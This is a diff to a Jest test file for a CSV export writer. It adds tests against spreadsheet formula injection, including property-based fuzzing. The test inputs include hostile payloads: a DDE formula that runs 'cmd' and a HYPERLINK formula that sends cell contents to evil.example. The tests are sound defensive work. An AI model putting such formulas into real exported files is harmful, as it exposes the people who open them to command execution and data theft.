@@ -1,5 +1,6 @@
 import { parse } from 'csv-parse/sync'
 import { describe, expect, it } from '@jest/globals'
+import fc from 'fast-check'
 
 import { bytesOf } from '../testing/readBlob'
 import { csvWriter, separatorFor } from './csv'
@@ -36,6 +37,18 @@ async function write(rows: readonly Row[], separator: ';' | ',' = ';') {
 const readBack = (text: string, delimiter = ';'): string[][] =>
   parse(text, { bom: true, delimiter, record_delimiter: '\r\n' })
 
+/** As programs read that are not strict about quotes. */
+const LAX = {
+  bom: true,
+  relax_quotes: true,
+  relax_column_count: true,
+  skip_records_with_error: true,
+}
+
+/** After spaces and what is not seen. */
+const BEGINS_FORMULA =
+  /^[\s\u0080-\u00a0\u00ad\u180e\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufe00-\ufe0f\ufeff]*[=+\-@＝＋－＠]/
+
 describe('a .csv file', () => {
   it('expect the mark of UTF-8, CRLF, and dates that every Excel reads', async () => {
     const text = await write([aRow('Café'), aRow(null)])
@@ -56,18 +69,77 @@ describe('a .csv file', () => {
     }
   )
 
-  it.each(['=1+1', '+1', '-1', '@SUM(1)', '\t=1', '\r=1', '\n=1', ' =1', '＝1', '=cmd|"/c x"!A1'])(
-    'given %j, expect an apostrophe before it, so that it is no formula',
-    async words => {
-      const [, row] = readBack(await write([aRow(words)]))
-      expect(row?.[1]).toBe(`'${words.replace('\r', '\n')}`)
-    }
-  )
+  it.each([
+    '=1+1',
+    '+A1',
+    '-A1',
+    '@SUM(1)',
+    '\t=1',
+    '\r=1',
+    '\n=1',
+    ' =1',
+    '＝1',
+    '=cmd|"/c x"!A1',
+  ])('given %j, expect an apostrophe before it, so that it is no formula', async words => {
+    const [, row] = readBack(await write([aRow(words)]))
+    expect(row?.[1]).toMatch(/^'/)
+    expect(row?.[1]?.replace(/'/g, '')).toBe(words.replace('\r', '\n'))
+  })
 
-  it.each(['Café = leite', 'a-b', '10% +', 'x@y.example'])(
+  it.each(['Café = leite', 'a-b', '10% +', 'x@y.example', '-5', '-1,5', 'a, b; c'])(
     'given the harmless %j, expect it unchanged',
     async words => expect(readBack(await write([aRow(words)]))[1]?.[1]).toBe(words)
   )
+
+  it.each([
+    '\u0001=HYPERLINK("http://evil.example/?"&A1,"abrir")',
+    '\u0000@SUM(1)',
+    '\u007f+A1',
+    '\ufffe=A1',
+    '\u200b=A1',
+    '\ufeff=A1',
+    '\u00ad=A1',
+    '\u202e=A1',
+  ])('given %j, which hides its first character, expect no formula', async words => {
+    expect(readBack(await write([aRow(words)]))[1]?.[1]).toMatch(/^'/)
+  })
+
+  it('given a formula inside, expect none where a program splits at another separator', async () => {
+    const text = await write([aRow('x,=1+1,y;@A1;"=2'), aRow('a\t=1')])
+    for (const delimiter of [',', ';', '\t'])
+      for (const row of parse(text, { ...LAX, delimiter }) as string[][])
+        for (const value of row) expect(value).not.toMatch(BEGINS_FORMULA)
+  })
+
+  it('given any text, expect that no cell begins as a formula does', async () => {
+    const part = fc.constantFrom(
+      ...['=', '+', '-', '@', '\t', '\r', '\n', ' ', '"', "'", ';', ',', '|', 'A1', '1', '\u0001'],
+      ...['\u200b', '\ufeff', '\u00a0', '\ufffe', '\u007f', '＝', '\u2028', '\u180e', '\ufe0f']
+    )
+    const texts = fc.oneof(
+      fc.array(part, { maxLength: 12 }).map(parts => parts.join('')),
+      fc.string({ unit: 'binary' })
+    )
+    await fc.assert(
+      fc.asyncProperty(
+        texts,
+        fc.constantFrom(';' as const, ',' as const),
+        async (words, separator) => {
+          const text = await write([aRow(words)], separator)
+          const [, row] = readBack(text, separator)
+          expect(row).toHaveLength(4)
+          expect(row?.[1]).not.toMatch(/^[\t\r\n]/)
+          for (const delimiter of [',', ';', '\t'])
+            for (const row of parse(text, { ...LAX, delimiter }) as string[][])
+              for (const value of row) {
+                const isNumber = /^["']*-[0-9]+([.,][0-9]+)?["']*$/.test(value)
+                if (!isNumber) expect(value).not.toMatch(BEGINS_FORMULA)
+              }
+        }
+      ),
+      { numRuns: Number(process.env.FUZZ_RUNS ?? 500) }
+    )
+  })
 
   it('given more than fits in one piece, expect every row in its order', async () => {
     const rows = Array.from({ length: 20_000 }, (_, at) => aRow(`SKU número ${at}`))
